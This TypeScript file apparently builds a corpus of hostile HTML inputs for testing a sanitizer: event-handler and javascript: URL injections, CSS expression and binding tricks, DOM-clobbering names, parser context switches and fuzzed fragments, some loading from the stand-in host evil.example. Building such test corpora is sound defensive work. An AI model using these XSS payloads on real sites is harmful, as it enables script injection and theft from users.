import { chance } from '../../testing/chance.ts'
import { cross } from './cross.ts'
import { addresses } from './hostile-addresses.ts'
import { surroundings } from './hostile-surroundings.ts'

/** Has no quotes, so that it fits into any quotes. */
const call = 'ran()'
const image = `<img src=x onerror=${call}>`
const script = `<script>${call}</script>`

const elements =
  'a abbr area article audio b base bdi big blink body br button canvas caption center code col custom-x datalist dd details dialog div dl embed fieldset font footer form frame frameset h1 head html hr i iframe image img input ins kbd keygen label legend li link listing main map mark marquee math menu meta meter nav nobr object ol optgroup option output p param picture plaintext portal pre progress q ruby s search section select slot source span strong style sub summary sup svg table tbody td template textarea tfoot th thead title tr track tt u ul var video wbr xmp xss'.split(
    ' ',
  )

const handlers =
  'onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput onbeforematch onbeforetoggle onbegin onblur oncanplay onclick oncontentvisibilityautostatechange oncopy oncuechange ondrag onend onerror onfocus onfocusin onformdata onhashchange oninput oninvalid onkeydown onload onloadstart onmessage onmouseenter onmouseover onpageshow onpaste onplay onpointerenter onpointerrawupdate onpopstate onrepeat onresize onscroll onscrollend onscrollsnapchange onsearch onsecuritypolicyviolation onselect onselectstart onslotchange onstart onsubmit ontimeupdate ontoggle ontouchstart ontransitionend ontransitionrun onunhandledrejection onwaiting onwebkitanimationiteration onwheel'.split(
    ' ',
  )

/** Careless parsers do not recognize these as attributes. */
const writings: readonly ((name: string, value: string) => string)[] = [
  (name, value) => ` ${name}=${value}`,
  (name, value) => ` ${name}="${value}"`,
  (name, value) => ` ${name}='${value}'`,
  (name, value) => `/${name}=${value}/`,
  (name, value) => `\n${name}\n=\n"${value}"`,
  (name, value) => `\f${name.toUpperCase()}\t= '${value}'`,
  (name, value) => ` x="" ${name}="${value.replaceAll('(', '&#40;').replaceAll(')', '&rpar;')}"`,
  (name, value) => ` "${name}=${value} ${name}="${value}"`,
  (name, value) => ` \u0000${name}=${value} ${name}\u0000=${value} ${name}=${value}`,
  (name, value) => ` title="a>b" ${name}=${value} ${name}=2`,
]

const addressed: readonly (readonly [element: string, attribute: string])[] = [
  ['a', 'href'],
  ['a', 'ping'],
  ['a', 'xlink:href'],
  ['area', 'href'],
  ['img', 'src'],
  ['img', 'srcset'],
  ['img', 'lowsrc'],
  ['img', 'dynsrc'],
  ['img', 'longdesc'],
  ['img', 'usemap'],
  ['form', 'action'],
  ['button', 'formaction'],
  ['input type=image', 'src'],
  ['iframe', 'src'],
  ['iframe', 'srcdoc'],
  ['object', 'data'],
  ['object', 'codebase'],
  ['embed', 'src'],
  ['video', 'poster'],
  ['video', 'src'],
  ['source', 'srcset'],
  ['body', 'background'],
  ['table', 'background'],
  ['td', 'background'],
  ['blockquote', 'cite'],
  ['q', 'cite'],
  ['del', 'cite'],
  ['base', 'href'],
  ['link rel=stylesheet', 'href'],
  ['link rel=import', 'href'],
  ['svg', 'xlink:href'],
  ['math', 'href'],
  ['html', 'manifest'],
  ['meta http-equiv=refresh', 'content'],
  ['div', 'style'],
  ['p', 'is'],
]

const clobbered =
  'location cookie body forms attributes children childNodes parentNode firstChild nodeName innerHTML constructor __proto__ prototype toString hasOwnProperty createElement getElementById documentElement defaultView currentScript scripts images anchors all self top parent window name nodeType removeChild'.split(
    ' ',
  )

/** Parsers switch their rules inside these elements. */
const switching =
  'style script title textarea xmp noembed noframes noscript iframe plaintext template select option math svg table caption colgroup frameset svg><desc svg><foreignObject svg><title svg><style math><mtext math><mi math><annotation-xml math><mglyph math><malignmark'.split(
    ' ',
  )

const styles = [
  `background:url(javascript:${call})`,
  `background:url(//evil.example/x)`,
  `width:expression(${call})`,
  `behavior:url(//evil.example/x.htc)`,
  `-moz-binding:url(//evil.example/x.xml#x)`,
  `position:fixed;inset:0;z-index:9`,
  `@import '//evil.example/x.css'`,
  `x:\\75rl(javascript:${call})`,
  `color:red;/*</style>${image}*/`,
  `}</style>${script}`,
]

const fragments = [
  '<',
  '>',
  '</',
  '/>',
  '<!--',
  '-->',
  '--!>',
  '"',
  "'",
  '=',
  ' ',
  '\n',
  '\u0000',
  '&lt;',
  '&#x3c',
  '<![CDATA[',
  ']]>',
  'x',
  image,
  script,
  ` onerror=${call} `,
  ' href=javascript:ran() ',
  'table',
  'td',
  'tr',
  'svg',
  'math',
  'style',
  'a',
  'p',
  'title',
  'template',
  'mtext',
  'foreignObject',
  'annotation-xml',
  'noscript',
  'select',
  'option',
  'caption',
  'b',
  'i',
  'form',
]

const fuzzed = (count: number, random: () => number) =>
  Array.from({ length: count }, () => {
    const pick = () => fragments[Math.floor(random() * fragments.length)] ?? ''
    return Array.from({ length: 4 + Math.floor(random() * 24) }, pick).join('')
  })

const writing = (index: number) => writings[index % writings.length] as (typeof writings)[number]
const core = [
  image,
  script,
  `<svg onload=${call}>`,
  `<a href=javascript:${call}>x</a>`,
  `<iframe srcdoc="${image}">`,
  `<details open ontoggle=${call}>`,
  `<style>@import '//evil.example'</style>`,
  `<input autofocus onfocus=${call}>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<math><mi xlink:href="javascript:${call}">x`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x">`,
  `<object data="javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href=//evil.example/>`,
  `<video><source onerror=${call}></video>`,
  `<form id=f></form><button form=f formaction=javascript:${call}>x`,
]

/** These survive in URLs only percent-encoded. */
const endings = [
  `"${image}`,
  `"onmouseover="${call}`,
  `'onclick=${call}//`,
  `"><svg onload=${call}>`,
  `|${script}`,
  `\`{${call}}^`,
]
const wholeAddresses = [
  '/',
  '?q=',
  '#',
  '../',
  'https://site.example/',
  'http://site.example?',
  'mailto:a@site.example',
  'tel:+1',
]

export const hostile: Readonly<Record<string, readonly string[]>> = {
  handlers: [
    ...elements.flatMap((element, index) =>
      handlers
        .filter((_, nth) => nth % 4 === index % 4)
        .map((handler, nth) => `<${element}${writing(index + nth)(handler, call)}>x</${element}>`),
    ),
  ],
  addresses: cross(addressed, addresses).map(
    ([[element, attribute], address], index) =>
      `<${element}${[writings[1], writings[4], writings[5]][index % 3]?.(attribute, address.replaceAll(/["']/g, '&quot;'))}>x`,
  ),
  'characters that no URL holds': [
    `<a href=/"><img src=x onerror=${call}>`,
    ...cross(wholeAddresses, endings).flatMap(([address, ending]) => {
      const written = `${address}${ending}`.replaceAll('"', '&quot;').replaceAll("'", '&#39;')
      return [`<a href="${written}">x</a>`, `<img src='${written}' alt="">`]
    }),
    '<a href="https://site.example&quot;@evil.example/">x</a>',
    '<a href="https://site.example|@evil.example/">x</a>',
    '<a href="|//evil.example/">x</a>',
  ],
  'rules that switch': cross(switching, switching).flatMap(([outer, inner]) => {
    const end = (opened: string) =>
      opened
        .split('><')
        .toReversed()
        .map((name) => `</${name}>`)
        .join('')
    return [
      `<${outer}><${inner}>${end(outer)}${image}${end(inner)}`,
      `<${outer}><${inner} title="${end(outer)}${image}">x`,
    ]
  }),
  surroundings: cross(surroundings, core).map(([surround, vector]) => surround(vector)),
  'names that clobber': cross(clobbered, ['id', 'name', 'class', 'for', 'form']).flatMap(
    ([name, attribute]) => [
      `<img ${attribute}=${name} src=/x.png>`,
      `<a ${attribute}=${name} href=/x><a ${attribute}=${name} name=y href=/x>x</a>`,
      `<form ${attribute}=${name}><input ${attribute}=${name}></form>`,
    ],
  ),
  styles: cross(['div', 'td', 'img src=/x.png', 'a href=/x', 'table', 'font'], styles).flatMap(
    ([element, style]) => [
      `<${element} style="${style.replaceAll('"', "'")}">x`,
      `<style>* { ${style} }</style><${element}>x`,
      ...['align', 'valign', 'width', 'height', 'bgcolor', 'color', 'class', 'dir'].map((attribute) => {
        const value = `${attribute}="left;${style.replaceAll('"', "'")}"`
        return `<table><tr><td ${value}><${element} ${value}>x`
      }),
    ],
  ),
  fuzzed: fuzzed(2000, chance(3)),
}
